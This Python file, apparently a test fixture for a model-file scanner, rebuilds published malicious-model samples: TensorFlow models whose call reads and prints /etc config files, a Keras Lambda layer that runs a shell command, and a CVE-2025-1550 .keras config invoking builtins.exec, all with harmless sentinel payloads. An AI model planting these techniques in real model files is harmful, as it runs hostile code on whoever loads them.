"""Attacks on model files that were published, rebuilt; run in a process of its own, so it brings its imports."""

import pathlib


def _modelscan_codeinjection(tf, tf_keras, folder, sentinel):
    """ModelScan's sample for TensorFlow: a model that writes credentials, lists files, and prints what is in them."""
    del tf_keras

    class MaliciousModule(tf.keras.Model):
        def __init__(self, safe_model):
            super().__init__()
            self.model = safe_model

        @tf.function(input_signature=[tf.TensorSpec([None, 28, 28], tf.float32)])
        def call(self, x):
            result = self.model(x)
            tf.io.write_file(sentinel, "aws_access_key_id=<access_key_id>")
            for file in tf.data.Dataset.list_files("/etc/*.conf", shuffle=False):
                tf.print("File found: " + file)
                tf.print(tf.io.read_file(file))
            return result

    safe = tf.keras.Sequential([tf.keras.layers.Flatten(input_shape=(28, 28)), tf.keras.layers.Dense(10)])
    model = MaliciousModule(safe)
    model.build((None, 28, 28))
    tf.saved_model.save(model, folder, model.call)


def _dynamoscan(tf, tf_keras, folder, sentinel):
    """A model around a model that writes, reads and lists files."""
    inner = tf_keras.Sequential([tf_keras.layers.Dense(1, input_shape=(4,))])

    class UnsafeModel(tf_keras.Model):
        def __init__(self, model):
            super().__init__()
            self.model = model

        def call(self, inputs):
            tf.io.write_file(sentinel, "PWNED!")
            tf.io.read_file("/etc/hostname")
            tf.io.matching_files("/etc/*.log")
            return self.model(inputs)

    model = UnsafeModel(inner)
    model(tf.zeros([1, 4]))
    model.save(folder)


def _lambda(tf_keras, sentinel):
    """ModelScan's sample for Keras: a Lambda layer whose Python starts a program."""
    payload = tf_keras.layers.Lambda(lambda x: __import__("os").system(f"touch {sentinel}") or x)
    return tf_keras.Sequential([tf_keras.Input((4,), name="x"), tf_keras.layers.Dense(2), payload])


def _lambda_savedmodel(tf, tf_keras, folder, sentinel):
    del tf
    _lambda(tf_keras, sentinel).save(folder)


def _lambda_members(tf, tf_keras, folder, sentinel):
    """The same as files of Keras's own formats, beside a model that is harmless."""
    del tf
    harmless = tf_keras.Sequential([tf_keras.layers.Dense(1, input_shape=(4,))])
    harmless.save(folder)
    _lambda(tf_keras, sentinel).save(f"{folder}/model.h5")
    _lambda(tf_keras, sentinel).save(f"{folder}/model.keras")


def _module_import(tf, tf_keras, folder, sentinel):
    """CVE-2025-1550: a .keras archive whose configuration names any function of any module."""
    import json
    import zipfile

    _lambda_members(tf, tf_keras, folder, sentinel)
    config = {
        "module": "builtins",
        "class_name": "exec",
        "config": {},
        "build_config": {"args": [f"open({sentinel!r}, 'w')"]},
    }
    pathlib.Path(folder, "model.h5").unlink()
    with zipfile.ZipFile(f"{folder}/model.keras", "w") as archive:
        archive.writestr("config.json", json.dumps(config))


ATTACKS = {
    "modelscan_codeinjection": _modelscan_codeinjection,
    "dynamoscan": _dynamoscan,
    "lambda_savedmodel": _lambda_savedmodel,
    "lambda_members": _lambda_members,
    "module_import": _module_import,
}


def build(folder):
    """Write each to folder/<name>/1; what it writes when it is made is removed."""
    import tensorflow as tf
    import tf_keras

    sentinels = pathlib.Path(folder) / "sentinels"
    sentinels.mkdir()
    for name, attack in ATTACKS.items():
        attack(tf, tf_keras, str(pathlib.Path(folder) / name / "1"), str(sentinels / name))
    for path in sentinels.iterdir():
        path.unlink()
